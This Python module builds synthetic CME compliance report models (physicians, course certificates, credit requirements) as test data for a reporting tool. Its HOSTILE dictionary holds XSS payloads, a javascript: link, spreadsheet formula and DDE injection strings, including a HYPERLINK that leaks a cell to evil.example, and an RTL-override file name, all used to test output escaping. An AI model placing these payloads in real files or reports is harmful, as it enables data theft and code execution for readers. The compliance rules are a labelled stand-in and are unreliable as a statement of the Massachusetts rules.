"""Builds realistic report models of any size directly, without extraction or the rules engine.

The compliance figures are computed by a deliberately simple stand-in for the rules engine so
the tables agree with each other (counted ids exist, earned sums match); they are test data,
not an implementation of the Massachusetts rules.
"""

from __future__ import annotations

import datetime as dt
import random
from decimal import Decimal

import pandas as pd

from cme_batch import schema
from cme_batch.report.model import (
    ACTIVITY_STATUS_COLUMNS,
    COMPLIANCE_MODEL_COLUMNS,
    PHYSICIAN_MODEL_COLUMNS,
    ReportModel,
    RuleSetRef,
    RunInfo,
)

AS_OF = dt.date(2025, 6, 1)

FIRST = [
    "Jane",
    "Omar",
    "Priya",
    "Wei",
    "Maria",
    "James",
    "Aisha",
    "Liam",
    "Sofia",
    "Noah",
    "Chen",
    "Fatima",
    "Lucas",
    "Hannah",
    "Mateo",
    "Grace",
    "Yusuf",
    "Elena",
    "David",
    "Keiko",
]
LAST = [
    "Doe",
    "Haddad",
    "Raman",
    "Zhang",
    "Garcia",
    "O'Brien",
    "Okafor",
    "Murphy",
    "Rossi",
    "Nguyen",
    "Cohen",
    "Patel",
    "Silva",
    "Kowalski",
    "Schmidt",
    "Ivanova",
    "Tanaka",
    "Brown",
    "Moreau",
    "Andersson",
]
PROVIDERS = [
    "Massachusetts Medical Society",
    "Harvard Medical School CME",
    "Boston University CME",
    "UMass Chan Medical School",
    "American College of Physicians",
    "Medscape",
    "Board of Registration in Medicine (self-study)",
]
# (title, topics, typical credits)
COURSES: list[tuple[str, tuple[str, ...], Decimal]] = [
    ("Safe Opioid Prescribing in Primary Care", ("opioid_pain", "risk_management"), Decimal(3)),
    ("Reading 243 CMR 1.00-3.00", ("board_regulations",), Decimal(2)),
    ("Conversations at the End of Life", ("end_of_life",), Decimal(2)),
    ("EHR Proficiency for Clinicians", ("ehr",), Decimal(3)),
    ("Implicit Bias in Healthcare", ("implicit_bias",), Decimal(2)),
    ("Mandated Reporter Training: Child Abuse", ("child_abuse",), Decimal("1.5")),
    ("Domestic and Sexual Violence (DPH approved)", ("domestic_violence",), Decimal(2)),
    ("Alzheimer's Disease and Related Dementias", ("dementia",), Decimal(1)),
    ("Disclosure of Adverse Events", ("risk_management",), Decimal(4)),
    ("Physician Wellness and Burnout", ("wellness_burnout",), Decimal(2)),
    ("Annual Cardiology Update", (), Decimal(10)),
    ("Diabetes Management 2024", (), Decimal("7.5")),
    ("Grand Rounds: Sepsis", (), Decimal(1)),
    ("Internal Medicine Board Review", (), Decimal(20)),
]

RM_TOPICS = {
    "risk_management",
    "opioid_pain",
    "end_of_life",
    "ehr",
    "board_regulations",
    "implicit_bias",
}
ONE_TIME = {"end_of_life", "ehr", "implicit_bias", "child_abuse", "domestic_violence", "dementia"}
REQUIRED = {
    "full": {
        "total": Decimal(50),
        "risk_management": Decimal(10),
        "board_regulations": Decimal(2),
        "opioid_pain": Decimal(3),
        "end_of_life": Decimal(2),
        "ehr": Decimal(3),
        "implicit_bias": Decimal(2),
        "child_abuse": Decimal(0),
        "domestic_violence": Decimal(0),
        "dementia": Decimal(1),
    },
}
REQUIRED["administrative"] = {
    k: v for k, v in REQUIRED["full"].items() if k not in {"ehr", "opioid_pain", "dementia"}
}
REQUIRED["temporary_faculty"] = {
    **{k: v for k, v in REQUIRED["full"].items() if k != "ehr"},
    "total": Decimal(25),
    "risk_management": Decimal(5),
}

#: Text an attacker could print on a certificate or put in a file name or roster.
HOSTILE = {
    "script": "<script>alert('xss')</script>",
    "close_script": "</script><script>alert(1)</script>",
    "img": '<img src=x onerror="alert(1)">',
    "attr": '" onmouseover="alert(1)" x="',
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "control": "Bad\x00\x01\x07\x1b\x7fName\ufffe",
    "rtl": "Invoice\u202egpj.exe",
    "long": "A" * 40_000,
    "link": "javascript:alert(1)",
}


def _name(rng: random.Random, i: int) -> tuple[str, str]:
    first = FIRST[i % len(FIRST)]
    last = LAST[(i * 7 + i // len(FIRST)) % len(LAST)]
    if i >= len(FIRST):
        last = f"{last}-{rng.choice(LAST)}"
    return first, last


def make_model(
    n_physicians: int = 12,
    *,
    seed: int = 7,
    as_of: dt.date = AS_OF,
    hostile: bool = False,
    inbox_href_base: str = "../inbox",
) -> ReportModel:
    """Build a consistent report model with ``n_physicians`` roster physicians.

    Args:
        n_physicians: Roster size.
        seed: Random seed (same seed, same model).
        as_of: The evaluation date.
        hostile: Put :data:`HOSTILE` text in the first physician's name, titles and file names.
        inbox_href_base: Relative link base to the inbox.

    Returns:
        The model.
    """
    rng = random.Random(seed)
    activities: list[dict[str, object]] = []
    compliance: list[dict[str, object]] = []
    physicians: list[dict[str, object]] = []
    status_rows: list[dict[str, object]] = []
    documents: list[dict[str, object]] = []

    for i in range(n_physicians):
        first, last = _name(rng, i)
        pid = f"P{i + 1:04d}"
        name = f"{first} {last}, MD"
        if hostile and i == 0:
            name = HOSTILE["script"] + HOSTILE["rtl"] + HOSTILE["control"]
        license_type = rng.choices(
            ["full", "administrative", "temporary_faculty", "limited", "inactive"],
            weights=[80, 6, 6, 4, 4],
        )[0]
        if i < 3:
            license_type = "full"
        renewal = as_of + dt.timedelta(days=rng.randint(-20, 720) if i else 20)
        prescriber = rng.random() < 0.8
        diligence = rng.random()
        start = renewal.replace(year=renewal.year - 2)
        if start.month == 2 and start.day == 29:  # pragma: no cover - date arithmetic guard
            start = start.replace(day=28)

        # Activities.
        if diligence > 0.45:
            courses = list(COURSES)
        else:
            courses = [c for c in COURSES if rng.random() < 0.3 + diligence]
        if hostile and i == 0:
            courses = list(COURSES)
        phys_acts: list[dict[str, object]] = []
        for n, (title, topics, credits) in enumerate(courses):
            one_time = bool(set(topics) & ONE_TIME)
            early = one_time and rng.random() < 0.3
            lo = start - dt.timedelta(days=2000) if early else start + dt.timedelta(days=1)
            date = lo + dt.timedelta(days=rng.randint(1, max(2, (min(renewal, as_of) - lo).days)))
            if rng.random() < 0.02:
                date = as_of + dt.timedelta(days=10)  # future-dated
            ledger = not topics and rng.random() < 0.2
            source = "ledger.xlsx" if ledger else f"scans/{last.replace(' ', '_')}_{first}_{n}.pdf"
            if hostile and i == 0:
                title = list(HOSTILE.values())[n % len(HOSTILE)]
                source = f"scans/{HOSTILE['img']}{n}.pdf" if n % 2 else f"{HOSTILE['link']}{n}.pdf"
            page = None if ledger else 1 + (n % 3)
            record_id = f"ledger:ledger.xlsx#row{i * 20 + n + 2}" if ledger else f"{source}#p{page}"
            confidence = 1.0 if ledger else round(rng.uniform(0.6, 1.0), 2)
            needs_review = confidence < 0.64 or (hostile and i == 0 and n == 0)
            exclude = "duplicate of an earlier certificate" if rng.random() < 0.03 else ""
            corrected = "credits;activity_date" if rng.random() < 0.05 else ""
            act = {
                "source_file": source,
                "page": page,
                "physician_name": name if not (hostile and i == 0) else HOSTILE["formula"],
                "physician_id": pid,
                "activity_title": title,
                "provider": rng.choice(PROVIDERS) if not (hostile and i == 0) else HOSTILE["at"],
                "activity_date": date,
                "credits": credits,
                "category": "2" if ledger or "243 CMR" in title else "1",
                "credit_type": "self-reported" if ledger else "AMA PRA Category 1 Credit",
                "topics": ";".join(sorted(topics)),
                "confidence": confidence,
                "needs_review": needs_review,
                "review_reason": "low OCR confidence on credits" if needs_review else "",
                "record_id": record_id,
                "exclude_reason": exclude,
                "corrected_fields": corrected,
            }
            phys_acts.append(act)
            if not ledger:
                documents.append(
                    {
                        "source_file": source,
                        "sha256": f"{rng.getrandbits(256):064x}",
                        "kind": "pdf_text" if confidence == 1.0 else "pdf_scan",
                        "pages": 3,
                        "status": "ok",
                        "reason": "",
                    }
                )
        activities.extend(phys_acts)

        # Compliance (stand-in for the rules engine).
        required = REQUIRED.get(license_type, {})
        counted_by_req: dict[str, list[dict[str, object]]] = {}
        reasons: dict[str, str] = {}
        for act in phys_acts:
            rid = str(act["record_id"])
            date = act["activity_date"]
            assert isinstance(date, dt.date)
            topics = set(str(act["topics"]).split(";")) - {""}
            if act["exclude_reason"]:
                reasons[rid] = str(act["exclude_reason"])
                continue
            if date > as_of:
                reasons[rid] = "dated after the as-of date"
                continue
            in_window = start < date <= renewal
            for req in required:
                hit = (
                    req == "total"
                    or (req == "risk_management" and topics & RM_TOPICS)
                    or req in topics
                )
                ok_date = date <= renewal if req in ONE_TIME else in_window
                if hit and ok_date:
                    counted_by_req.setdefault(req, []).append(act)
            if not any(act in v for v in counted_by_req.values()):
                reasons[rid] = "outside the cycle window" if not in_window else "no requirement"
        missing_parts: list[str] = []
        any_short = any_review = False
        for req in (
            "total",
            "risk_management",
            "board_regulations",
            "opioid_pain",
            "end_of_life",
            "ehr",
            "implicit_bias",
            "child_abuse",
            "domestic_violence",
            "dementia",
        ):
            applies = req in required and (req != "opioid_pain" or prescriber)
            acts = counted_by_req.get(req, []) if applies else []
            earned = sum((a["credits"] for a in acts), Decimal(0))  # type: ignore[misc]
            need = required.get(req, Decimal(0))
            if not applies:
                status = "not_applicable"
            elif need == 0:
                status = "met" if acts else "short"
            else:
                status = "met" if earned >= need else "short"
            if status == "met" and any(a["needs_review"] for a in acts):
                status, any_review = "needs_review", True
            shortfall = max(need - earned, Decimal(0)) if applies else Decimal(0)
            if status == "short":
                any_short = True
                label = req.replace("_", "-")
                missing_parts.append(
                    f"the one-time {label} training"
                    if need == 0 or req in ONE_TIME and shortfall == need
                    else f"{shortfall} more {label} credits"
                )
            compliance.append(
                {
                    "physician_id": pid,
                    "physician_name": name,
                    "renewal_date": renewal,
                    "cycle_start": start if req not in ONE_TIME else dt.date(1900, 1, 1),
                    "cycle_end": renewal,
                    "requirement": req,
                    "required": need if applies else Decimal(0),
                    "earned": earned,
                    "shortfall": shortfall,
                    "status": status,
                    "counted": ";".join(str(a["record_id"]) for a in acts),
                    "rule_set": "ma-2018",
                    "note": "" if applies else f"does not apply to a {license_type} license",
                }
            )
        for act in phys_acts:
            rid = str(act["record_id"])
            toward = [r for r, v in counted_by_req.items() if act in v]
            status_rows.append(
                {
                    "physician_id": pid,
                    "record_id": rid,
                    "counted_toward": ";".join(toward),
                    "excluded_reason": "" if toward else reasons.get(rid, ""),
                }
            )
        days = (renewal - as_of).days
        if license_type in {"limited", "inactive"}:
            overall = "not_applicable"
        elif days < 0:
            overall = "lapsed"
        elif any_short:
            overall = "urgent" if days <= 60 else "deficient"
        elif any_review:
            overall = "needs_review"
        else:
            overall = "compliant"
        missing = (
            f"needs {' and '.join(missing_parts)} by {renewal.isoformat()}"
            if missing_parts and overall != "not_applicable"
            else ""
        )
        physicians.append(
            {
                "physician_id": pid,
                "physician_name": name,
                "renewal_date": renewal,
                "days_to_renewal": days,
                "status": overall,
                "missing": missing,
                "license_type": license_type,
                "rule_set": "ma-2018",
            }
        )

    failed = [
        ("scans/blurry_phone_photo.jpg", "image", 1, "failed", "OCR confidence too low to read"),
        ("scans/conference_agenda.pdf", "pdf_text", 4, "no_certificate", "no credits found"),
        ("scans/notes.docx", "unknown", 0, "unsupported", "not a PDF or image"),
        ("scans/Doe_Jane_0 (1).pdf", "pdf_text", 1, "duplicate", "same bytes as another file"),
    ]
    if hostile:
        failed.append(
            (f"scans/{HOSTILE['close_script']}.pdf", "pdf_text", 1, "failed", HOSTILE["formula"])
        )
    for source, kind, pages, status, reason in failed:
        documents.append(
            {
                "source_file": source,
                "sha256": f"{rng.getrandbits(256):064x}",
                "kind": kind,
                "pages": pages,
                "status": status,
                "reason": reason,
            }
        )
    # A certificate's file holds several pages; keep one row per file.
    docs = pd.DataFrame(documents, columns=list(schema.DOCUMENT_COLUMNS))
    docs = docs.drop_duplicates("source_file").reset_index(drop=True)

    run = RunInfo(
        as_of=as_of,
        rule_sets=(RuleSetRef("ma-2018", "2024-04-11"),),
        inbox="inbox",
        roster="roster.xlsx",
        ledgers=("ledger.xlsx",),
        started_at=dt.datetime(2025, 6, 1, 8, 0, 0),
        finished_at=dt.datetime(2025, 6, 1, 8, 4, 31),
        counts={
            "files": len(docs),
            "activities": len(activities),
            "physicians": n_physicians,
            "failed_files": sum(1 for d in documents if d["status"] == "failed"),
        },
        versions={"cme-batch": "0.1.0", "python": "3.11", "tesseract": "5.3.0"},
        exit_status="completed with failed files",
    )
    return ReportModel(
        run=run,
        documents=docs,
        activities=pd.DataFrame(activities, columns=list(schema.ACTIVITY_COLUMNS)),
        compliance=pd.DataFrame(compliance, columns=list(COMPLIANCE_MODEL_COLUMNS)),
        physicians=pd.DataFrame(physicians, columns=list(PHYSICIAN_MODEL_COLUMNS)),
        activity_status=pd.DataFrame(status_rows, columns=list(ACTIVITY_STATUS_COLUMNS)),
        inbox_href_base=inbox_href_base,
    )
